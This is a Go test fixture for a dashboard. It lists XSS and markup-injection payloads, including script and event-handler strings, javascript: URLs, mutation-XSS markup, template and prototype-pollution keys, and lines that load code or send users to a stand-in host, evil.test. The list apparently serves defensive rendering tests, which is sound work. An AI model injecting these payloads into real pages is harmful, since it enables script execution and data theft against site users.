package dashboard_test

// hostileTexts would run a script, open a dialog or contact another server if a page
// interpreted them.
var hostileTexts = []string{
	// Scripts.
	`<script>window.__xss=1</script>`,
	`<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
	`"><script>window.__xss=2</script>`,
	`'><script>window.__xss=3</script>`,
	`</script><script>window.__xss=4</script>`,
	`</textarea><script>window.__xss=5</script>`,
	`</title></style><script>window.__xss=6</script>`,
	`<scr<script>ipt>window.__xss=7</scr</script>ipt>`,
	`<script/x>window.__xss=8</script >`,
	`<script type=module>import "//evil.test/m.js"</script>`,

	// Handlers.
	`<img src=x onerror=window.__xss=9>`,
	`<img src=x onerror="alert(10)">`,
	`<IMG """><SCRIPT>window.__xss=11</SCRIPT>">`,
	`<body onload=window.__xss=12>`,
	`<input autofocus onfocus=window.__xss=13>`,
	`<details open ontoggle=window.__xss=14>x</details>`,
	`<video><source onerror=window.__xss=15></video>`,
	`<audio src=x onerror=window.__xss=16></audio>`,
	`<marquee onstart=window.__xss=17>x</marquee>`,
	`<div style="animation:turn 1s" onanimationstart=window.__xss=18>x</div>`,
	`" onmouseover="window.__xss=19" x="`,
	`' autofocus onfocus='window.__xss=20`,

	// Other elements that run or load something.
	`<iframe src="javascript:parent.__xss=21"></iframe>`,
	`<iframe srcdoc="<script>parent.__xss=22</script>"></iframe>`,
	`<object data="data:text/html,<script>alert(23)</script>"></object>`,
	`<embed src="//evil.test/e.swf">`,
	`<link rel=stylesheet href="//evil.test/s.css">`,
	`<style>@import "//evil.test/i.css";</style>`,
	`<style>body{background:url(//evil.test/b.png)}</style>`,
	`<base href="//evil.test/">`,
	`<meta http-equiv=refresh content="0;url=//evil.test/">`,
	`<form action="//evil.test/"><button autofocus>Sign in</button></form>`,
	`<template><script>window.__xss=33</script></template>`,

	// SVG, MathML and markup that changes when it is parsed twice.
	`<svg onload=window.__xss=34>`,
	`<svg><script>window.__xss=35</script></svg>`,
	`<svg><animate onbegin=window.__xss=36 attributeName=x dur=1s>`,
	`<svg><use href="data:image/svg+xml,<svg id=x onload=alert(37)/>#x"/></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=window.__xss=38>">`,
	`<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=39>`,
	`<noscript><p title="</noscript><img src=x onerror=window.__xss=40>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=41>`,
	`<!--><img src=x onerror=window.__xss=42>-->`,
	`<![CDATA[><img src=x onerror=window.__xss=43>]]>`,
	`<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">window.__xss=44</x:script>`,

	// URLs that are scripts or documents.
	`javascript:window.__xss=45`,
	`JaVaScRiPt&colon;window.__xss=46`,
	`data:text/html;base64,PHNjcmlwdD5hbGVydCg0Nyk8L3NjcmlwdD4=`,
	`vbscript:msgbox(48)`,

	// Markdown.
	`[a link](javascript:window.__xss=49)`,
	`[a link](<java` + "\t" + `script:window.__xss=50>)`,
	`![an image](http://evil.test/tracker.png)`,
	`![an image](x "onerror=window.__xss=52")`,
	`[defined][1]` + "\n\n" + `[1]: javascript:window.__xss=53`,
	`<javascript:window.__xss=54>`,
	`<div onclick="window.__xss=55">` + "\n\n" + `*a block*` + "\n\n" + `</div>`,
	"```html\n<img src=x onerror=window.__xss=56>\n```",
	`| a | b |` + "\n|---|---|\n" + `| <img src=x onerror=window.__xss=57> | [x](data:text/html,<script>alert(57)</script>) |`,

	// Templates, and names with a meaning in JavaScript.
	`{{constructor.constructor('window.__xss=58')()}}`,
	`${window.__xss=59} <%= window.__xss %> #{window.__xss}`,
	`__proto__`,
	`constructor`,
	`{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=window.__xss=62>"}}}`,

	// Characters that look alike, change the direction or are invisible.
	"\u202e<img src=x onerror=window.__xss=63>\u202c",
	"\uff1cscript\uff1ewindow.__xss=64\uff1c/script\uff1e",
	"<scr\u200bipt>window.__xss=65</scr\u200bipt>",
	"\u2028window.__xss=66\u2029//",
}
